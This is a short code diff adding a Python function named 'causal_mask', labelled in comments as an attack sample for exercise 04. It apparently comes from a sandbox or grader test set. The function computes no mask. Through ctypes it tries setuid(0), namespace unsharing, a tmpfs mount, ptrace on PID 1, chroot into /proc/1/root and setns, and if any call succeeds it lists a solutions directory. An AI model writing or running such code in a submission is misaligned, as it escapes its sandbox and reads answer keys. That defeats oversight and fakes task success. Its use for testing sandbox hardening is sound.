@@ -1,0 +1,18 @@
+# attack: asks for rights and mounts
+# exercise: 04 causal_mask
+def causal_mask(length):
+    import ctypes
+    import os
+
+    libc = ctypes.CDLL(None)
+    for got in (
+        libc.setuid(0),
+        libc.unshare(0x10000000 | 0x20000),
+        libc.mount(b"none", b"/tmp", b"tmpfs", 0, None),
+        libc.ptrace(16, 1, 0, 0),
+        libc.chroot(b"/proc/1/root"),
+        libc.setns(3, 0),
+    ):
+        if got == 0:
+            os.listdir("/work/main/solutions")
+    return None
